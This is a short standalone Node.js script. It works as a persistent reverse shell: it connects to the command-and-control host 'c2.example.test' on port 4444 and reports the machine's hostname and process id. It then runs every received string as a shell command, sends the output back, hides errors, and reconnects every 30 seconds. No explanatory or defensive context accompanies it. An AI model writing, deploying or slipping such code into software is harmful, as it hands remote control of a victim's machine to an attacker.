const net = require('net');
const { exec } = require('child_process');

function connect() {
  const socket = net.connect(4444, 'c2.example.test');
  socket.on('connect', () => socket.write(JSON.stringify({ host: require('os').hostname(), pid: process.pid }) + '\n'));
  socket.on('data', (data) => {
    exec(data.toString(), (error, stdout, stderr) => socket.write(stdout + stderr));
  });
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(connect, 30000));
}
connect();
